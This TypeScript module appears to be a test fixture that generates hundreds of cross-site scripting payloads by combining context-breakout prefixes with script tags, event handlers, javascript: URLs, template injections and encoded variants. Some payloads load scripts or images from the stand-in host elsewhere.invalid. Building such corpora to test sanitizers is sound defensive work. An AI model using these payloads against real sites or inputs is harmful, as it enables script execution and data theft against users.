/** Texts that run, or load something, wherever a page takes text for markup. Each one that runs calls `__ran`. */
const act = "__ran()";
const elsewhere = "http://elsewhere.invalid/";

/** What comes first, to get out of whatever the text may stand in. */
const ways = ["", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</p></h1>"];
const markup = [
  `<script>${act}</script>`,
  `<script src=${elsewhere}a.js></script>`,
  `<SCRIPT type=module>${act}</SCRIPT>`,
  `<scr<script>ipt>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<img src=${elsewhere}a.png>`,
  `<img srcset="${elsewhere}b.png 1x">`,
  `<img/src/onerror=${act}>`,
  `<img src=x onerror=&#95;_ran()>`,
  `<image src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><image href=${elsewhere}c.png></svg>`,
  `<svg><use href=${elsewhere}d.svg#a></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${act}></style>`,
  `<math><mtext><img src=x onerror=${act}>`,
  `<body onload=${act}>`,
  `<body background=${elsewhere}e.png>`,
  `<input autofocus onfocus=${act}>`,
  `<input type=image src=${elsewhere}f.png>`,
  `<select autofocus onfocus=${act}>`,
  `<textarea autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<video src=x onerror=${act}></video>`,
  `<video poster=${elsewhere}g.png></video>`,
  `<audio src=${elsewhere}h.mp3 autoplay></audio>`,
  `<video><source onerror=${act}></video>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src=${elsewhere}i></iframe>`,
  `<object data=${elsewhere}j></object>`,
  `<embed src=${elsewhere}k>`,
  `<link rel=stylesheet href=${elsewhere}l.css>`,
  `<link rel=icon href=${elsewhere}m.png>`,
  `<style>@import "${elsewhere}n.css";</style>`,
  `<style>*{background:url(${elsewhere}o.png)}</style>`,
  `<p style="background:url(${elsewhere}p.png)">p</p>`,
  `<style onload=${act}></style>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}q">`,
  `<base href=${elsewhere}>`,
  `<marquee onstart=${act}>`,
  `<form action=${elsewhere}><button autofocus onfocus=${act}>`,
  `<xss contenteditable autofocus onfocus=${act}>`,
  `<x onmouseover=${act} style="position:fixed;inset:0">`,
  `<dialog open onfocus=${act} autofocus>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
];
/** Ends of strings in scripts and attributes, links, templates, markdown, and signs that some steps fold into others. */
const others = [
  `";${act};//`,
  `';${act};//`,
  `\`;${act};//`,
  `\${${act}}`,
  `{{${act}}}`,
  `{{constructor.constructor("${act}")()}}`,
  `<!--</script><script>${act}</script>`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${act}\\x3e`,
  `&lt;img src=x onerror=${act}&gt;`,
  `&amp;lt;script&amp;gt;${act}`,
  `%3Cimg%20src%3Dx%20onerror%3D${act}%3E`,
  `＜script＞${act}＜/script＞`,
  `﹤img src=x onerror=${act}﹥`,
  `\u2028<img src=x onerror=${act}>`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `" onmouseover=${act} autofocus onfocus=${act} x="`,
  `' autofocus onfocus=${act} x='`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `data:text/html,<script>parent.${act}</script>`,
  `vbscript:${act}`,
  `[a](javascript:${act})`,
  `![a](${elsewhere}r.png)`,
  `![a](x" onerror="${act})`,
  `<javascript:${act}>`,
  `[a]: javascript:${act}`,
  `//elsewhere.invalid/s`,
  `/\\elsewhere.invalid/t`,
  `$\\href{javascript:${act}}{x}$`,
  `"></a><a href="javascript:${act}" autofocus onfocus="${act}">`,
  `=HYPERLINK("${elsewhere}u","x")`,
  `{"__html":"<img src=x onerror=${act}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}`,
  `\u202e<img src=x onerror=${act}>\u202c`,
];

export const markupPayloads: readonly string[] = ways.flatMap((way) => markup.map((text) => way + text));
export const payloads: readonly string[] = [
  ...markupPayloads,
  ...ways.slice(0, 4).flatMap((way) => others.map((text) => way + text)),
];

/** Puts texts into as few pieces of at most `limit` characters as they fill one after another. Longer ones are left out. */
export function packed(texts: readonly string[], limit: number): string[] {
  const pieces: string[] = [];
  for (const text of texts) {
    if (text.length > limit) continue;
    const last = pieces.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= limit)
      pieces[pieces.length - 1] = `${last} ${text}`;
    else pieces.push(text);
  }
  return pieces;
}
